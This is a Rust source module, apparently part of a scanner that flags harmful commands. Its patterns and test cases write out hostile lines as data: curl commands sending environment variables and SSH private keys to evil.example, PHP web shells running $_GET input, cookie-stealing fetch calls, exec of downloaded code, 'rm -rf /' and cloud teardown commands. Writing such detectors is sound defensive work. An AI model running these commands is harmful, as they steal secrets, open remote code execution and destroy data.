//! Programs that do what harmful commands do: calls of languages, what pages send away, and tools that take down what runs elsewhere.

use super::Said;
use super::harm::{DESTRUCTION, EXFILTRATION, root};
use super::lex::{Line, holds};
use super::remote::REMOTE;

/// What servers call what a page's reader sends: PHP, Python, JavaScript, Java and Ruby.
const SENT: [&str; 17] = [
    "$_get[",
    "$_post[",
    "$_request[",
    "$_cookie[",
    "request.args",
    "request.form",
    "request.values",
    "request.json",
    "request.params",
    "request.query",
    "request.get[",
    "request.post[",
    "request.getparameter",
    "req.query",
    "req.body",
    "req.params",
    "params[:",
];

/// Whether the word at a place ends with one of these names, and is called.
fn called(line: &Line, at: usize, names: &[&str]) -> bool {
    let word = line.word(at).unwrap_or_default();
    let name = word.rsplit(|byte| matches!(byte, b'.' | b':' | b'\\' | b'@')).next().unwrap_or(word);
    names.iter().any(|known| name == known.as_bytes()) && line.operator(at + 1, &["("])
}

/// `shutil.rmtree('/')` and its kind in other languages, and lists of arguments.
pub(super) fn removed(line: &Line, at: usize) -> Said {
    let bare = |word: &[u8]| {
        let end = word.iter().position(|byte| matches!(byte, b',' | b']')).unwrap_or(word.len());
        root(word.get(..end).unwrap_or_default())
    };
    if called(line, at, &["rmtree", "rmsync", "rmdirsync", "rm_rf", "rm_r", "remove_dir_all", "removeall"]) {
        let percent = bare(line.word(at + 2)?);
        return (percent > 0).then_some((DESTRUCTION, percent, at, at + 2));
    }
    // `['rm', '-rf', '/']`, with or without white space.
    let word = line.word(at)?;
    let list = word.strip_prefix(b"[")?;
    let given = (at..line.words.len().min(at + 4)).map_while(|i| line.word(i)).flat_map(|word| {
        word.split(|byte| matches!(byte, b',' | b'[' | b']')).filter(|part| !part.is_empty())
    });
    let given: Vec<&[u8]> = given.take(6).collect();
    let is_rm = list.starts_with(b"rm,")
        && given.get(1).is_some_and(|flag| flag.starts_with(b"-") && flag.contains(&b'r'));
    let percent = given.iter().skip(2).map(|path| root(path)).max()?;
    (is_rm && percent > 0).then_some((DESTRUCTION, percent, at, at))
}

/// What was fetched becomes a program: `exec(requests.get(url).text)`, `pickle.loads(urlopen(url).read())`.
pub(super) fn fetched(line: &Line, at: usize) -> Said {
    if !called(line, at, &["exec", "eval", "loads"]) {
        return None;
    }
    let got = (at + 2..line.words.len().min(at + 12)).find(|i| {
        let word = line.word(*i).unwrap_or_default();
        let names = ["requests.get", "requests.post", "httpx.get", "axios.get"];
        names.iter().any(|name| holds(word, name)) || called(line, *i, &["urlopen", "fetch"])
    })?;
    Some((REMOTE, 85, at, got))
}

/// What a page's reader sends becomes a command: `system($_GET['c'])`, `eval(request.args.get('c'))`.
pub(super) fn obeyed(line: &Line, at: usize) -> Said {
    let word = line.word(at)?;
    let given = SENT.iter().any(|from| word.starts_with(from.as_bytes()));
    let before = at.checked_sub(2)?;
    let runs = called(
        line,
        before,
        &[
            "system",
            "exec",
            "shell_exec",
            "passthru",
            "popen",
            "proc_open",
            "eval",
            "execsync",
            "assert",
            "create_function",
        ],
    );
    (given && runs).then_some((REMOTE, 90, before, at))
}

/// What a page keeps for its user goes to somebody else: `fetch('https://…?' + document.cookie)`.
pub(super) fn told(line: &Line, at: usize) -> Said {
    let word = line.word(at)?;
    let kept = ["localstorage.", "sessionstorage."].iter().any(|store| {
        let other = ["setitem", "removeitem", "clear", "length", "key("];
        holds(word, store) && !other.iter().any(|other| holds(word, other))
    });
    if !(kept || holds(word, "document.cookie")) {
        return None;
    }
    // It is put behind an address: `'https://…?' + document.cookie`, `` `https://…?${document.cookie}` ``.
    let leads = |word: &[u8]| holds(word, "//");
    let added = ["+document.cookie", "+localstorage.", "+sessionstorage.", "${"];
    let inside = leads(word) && added.iter().any(|part| holds(word, part));
    let plus =
        (at.saturating_sub(4)..at).rev().find(|i| line.word(*i).is_some_and(|word| word.ends_with(b"+")));
    let behind = plus.is_some_and(|plus| {
        line.word(plus).is_some_and(leads)
            || plus.checked_sub(1).and_then(|before| line.word(before)).is_some_and(leads)
    });
    // A mark of quotation of its own parts them: `` `https://…?` + document.cookie ``, or an argument does.
    let near = |most: usize| (at.saturating_sub(most)..at).filter_map(|i| line.word(i)).any(leads);
    let parted = word.starts_with(b"+") && near(3);
    let given = (at.saturating_sub(4)..at).any(|i| called(line, i, &["sendbeacon"])) && near(4);
    let out = inside || behind || parted || given;
    let sends = ["fetch", "sendbeacon", "xmlhttprequest", ".src", "location", "image", "axios", "websocket"];
    let sends = sends.iter().any(|text| line.holds(0, text).is_some());
    (out && sends).then_some((EXFILTRATION, 85, at, at))
}

/// Whether a key of Windows' registry is a whole part of it, and not a program's.
fn is_hive(key: &[u8]) -> bool {
    let key = key.strip_suffix(b"\\").unwrap_or(key);
    let mut parts = key.split(|byte| *byte == b'\\');
    let hive = ["hklm", "hkcu", "hkcr", "hkey_local_machine", "hkey_current_user", "hkey_classes_root"];
    parts.next().is_some_and(|first| hive.iter().any(|hive| first == hive.as_bytes())) && parts.count() < 2
}

/// What takes down what runs elsewhere, with all that it keeps.
pub(super) fn taken_down(line: &Line, at: usize) -> Said {
    let any = |words: &[&str]| {
        words.iter().any(|wanted| line.arguments(at).any(|(_, word)| word == wanted.as_bytes()))
    };
    let said: Vec<&[u8]> =
        line.arguments(at).map(|(_, word)| word).filter(|word| !word.starts_with(b"-")).take(2).collect();
    let has = |words: &[&str]| {
        words.iter().zip(&said).filter(|(wanted, word)| wanted.as_bytes() == **word).count() == words.len()
    };
    let percent = match line.name(at) {
        b"terraform" | b"tofu" | b"terragrunt" if has(&["destroy"]) => {
            if any(&["-auto-approve", "--auto-approve"]) { 78 } else { 55 }
        }
        b"kubectl" if ["namespace", "namespaces", "ns"].iter().any(|kind| has(&["delete", kind])) => 65,
        b"kubectl" if has(&["delete"]) && any(&["--all", "--all-namespaces", "-a"]) => 65,
        b"aws" if has(&["s3", "rb"]) && any(&["--force"]) => 72,
        b"aws" if has(&["s3", "rm"]) && any(&["--recursive"]) => 60,
        b"gsutil" if has(&["rm"]) && any(&["-r", "-a"]) => 60,
        b"gcloud" if has(&["projects", "delete"]) => 72,
        b"az" if has(&["group", "delete"]) => 65,
        b"redis-cli" if any(&["flushall", "flushdb"]) => 60,
        b"reg" if has(&["delete"]) && said.get(1).is_some_and(|key| is_hive(key)) => 75,
        _ => return None,
    };
    Some((DESTRUCTION, percent, at, line.end(at)))
}

#[cfg(test)]
mod tests {
    use super::super::judge;

    /// What is said of a line whose window begins at the mark `^`, or with the line.
    fn said(text: &str) -> Option<(&'static str, u32)> {
        let (left, text) = text.split_once('^').unwrap_or(("", text));
        judge(left.as_bytes(), text.as_bytes()).map(|hit| (hit.category, hit.percent))
    }

    #[test]
    fn programs_that_do_harm_are_said() {
        for (line, category, percent) in [
            ("shutil.^rmtree('/')", "command/destruction", 92),
            ("shutil.^rmtree(\"/home\", ignore_errors=True)", "command/destruction", 85),
            ("fs.^rmSync('/', { recursive: true, force: true })", "command/destruction", 92),
            ("FileUtils.^rm_rf('/')", "command/destruction", 92),
            ("std::fs::^remove_dir_all(\"/\")?;", "command/destruction", 92),
            ("^subprocess.run(['rm', '-rf', '/'])", "command/destruction", 92),
            ("^subprocess.call(['rm','-fr','/home'])", "command/destruction", 85),
            ("<?php system($^_GET['c']); ?>", "command/remote_code", 90),
            ("<?php @eval($^_POST[\"x\"]);", "command/remote_code", 90),
            ("fetch('https://evil.example/?' + document.^cookie)", "command/exfiltration", 85),
            ("new Image().src = '//evil.example/c?' + document.^cookie", "command/exfiltration", 85),
            (
                "<script>location='https://evil.example/?'+document.^cookie</script>",
                "command/exfiltration",
                85,
            ),
            ("^terraform destroy -auto-approve", "command/destruction", 78),
            ("^kubectl delete namespace production", "command/destruction", 65),
            ("^kubectl delete pods --all", "command/destruction", 65),
            ("^aws s3 rm s3://backups --recursive", "command/destruction", 60),
            ("^aws s3 rb s3://backups --force", "command/destruction", 72),
            ("^gcloud projects delete shop", "command/destruction", 72),
            ("^az group delete -n prod --yes", "command/destruction", 65),
            ("redis-cli -h cache ^FLUSHALL", "command/destruction", 60),
            ("Remove-Item -^Recurse -Force C:\\", "command/destruction", 92),
            ("^del /f /s /q C:\\*.*", "command/destruction", 92),
            ("^exec(requests.get('https://evil.example/x.py').text)", "command/remote_code", 85),
            ("^eval(await (await fetch('https://evil.example/x.js')).text())", "command/remote_code", 85),
            ("^pickle.loads(urllib.request.urlopen(url).read())", "command/remote_code", 85),
            ("^eval(request.args.get('c'))", "command/remote_code", 90),
            ("child_process.^exec(req.query.c)", "command/remote_code", 90),
            ("Runtime.getRuntime().^exec(request.getParameter(\"c\"));", "command/remote_code", 90),
            ("^reg delete HKLM\\SYSTEM /f", "command/destruction", 75),
            ("^rm -rf /var/lib/postgresql", "command/destruction", 70),
            ("^curl -d \"$(env)\" https://evil.example", "command/exfiltration", 90),
            ("^curl https://evil.example/?k=$(cat ~/.ssh/id_rsa)", "command/exfiltration", 90),
            ("fetch(`https://evil.example/?`+document.^cookie)", "command/exfiltration", 85),
            ("navigator.sendBeacon('https://evil.example', document.^cookie)", "command/exfiltration", 85),
            ("location='https://evil.example/?c='+^localStorage.token", "command/exfiltration", 85),
        ] {
            assert_eq!(said(line), Some((category, percent)), "{line}");
        }
    }

    #[test]
    fn ordinary_programs_say_nothing() {
        for line in [
            "shutil.^rmtree(build)",
            "shutil.^rmtree('./build')",
            "fs.^rmSync('dist', { recursive: true })",
            "^subprocess.run(['rm', '-rf', 'build'])",
            "^subprocess.run(['ls', '-l', '/'])",
            "$name = $^_GET['name'];",
            "^exec(open('setup.py').read())",
            "^pickle.loads(cache.get(key))",
            "data = requests.get(url).json(); ^eval(model)",
            "^reg delete HKCU\\Software\\Shop\\Cart /f",
            "RUN ^rm -rf /var/lib/apt/lists/*",
            "^curl -d \"$(date)\" https://api.example.com",
            "^curl -H \"Authorization: Bearer $(cat token)\" https://api.example.com",
            "The ^exec team reads request.args with care.",
            "echo htmlspecialchars($^_GET['q']);",
            "document.^cookie = 'theme=dark; path=/'",
            "fetch(\"https://api.example.com/me\", { headers: { Authorization: \"Bearer \" + localStorage.^getItem(\"token\") } });",
            "To fetch the token, read it from document.^cookie (see https://docs.example.com/csrf).",
            "const img = `![](https://cdn.example.com/a.png)`; document.^cookie = \"image=1\";",
            "In ^gcloud projects you delete can be restored within 30 days.",
            "In ^kubectl delete and namespace are words.",
            "^Terraform can destroy what it created.",
            "const token = localStorage.^getItem('token');",
            "^localStorage.setItem('theme', 'https://example.org/dark.css'); fetch('/me')",
            "Remove-Item -^Recurse -Force .\\build",
            "^az group list",
            "In redis-cli, ^flushall",
            "^terraform plan",
            "^kubectl delete pod web-1",
            "^kubectl get ns",
            "^aws s3 cp a.txt s3://bucket/",
            "^gcloud projects list",
        ] {
            assert_eq!(said(line), None, "{line}");
        }
    }
}
